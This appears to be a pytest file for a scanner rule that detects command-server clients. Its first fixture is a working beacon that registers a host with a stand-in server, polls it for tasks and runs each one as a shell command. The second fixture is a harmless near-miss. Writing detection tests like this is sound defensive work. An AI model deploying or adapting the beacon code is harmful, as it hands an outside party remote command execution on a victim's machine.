"""The client of a command server."""

from lazaretto.detect.rules.python.token_poll import RULE


def test_register_poll_run(scan):
    text = r"""import requests, subprocess, time, platform
URL = "https://api.example.test"
def main():
    token = requests.post(URL + "/register", json={"host": platform.node()}).json()["token"]
    while True:
        task = requests.get(URL + "/task", headers={"token": token}).json()
        subprocess.run(task["command"], shell=True)
        time.sleep(10)
"""
    assert scan(RULE, text) == [(7, "HIGH", "MEDIUM", "run")]


def test_near_miss_a_poller_that_runs_nothing(scan):
    text = r"""import requests, subprocess, time
token = requests.post("https://api.example.test/login").json()["token"]
while True:
    print(requests.get("https://api.example.test/state", headers={"t": token}).json())
    subprocess.run(["date"])
    time.sleep(5)
"""
    assert scan(RULE, text) == []
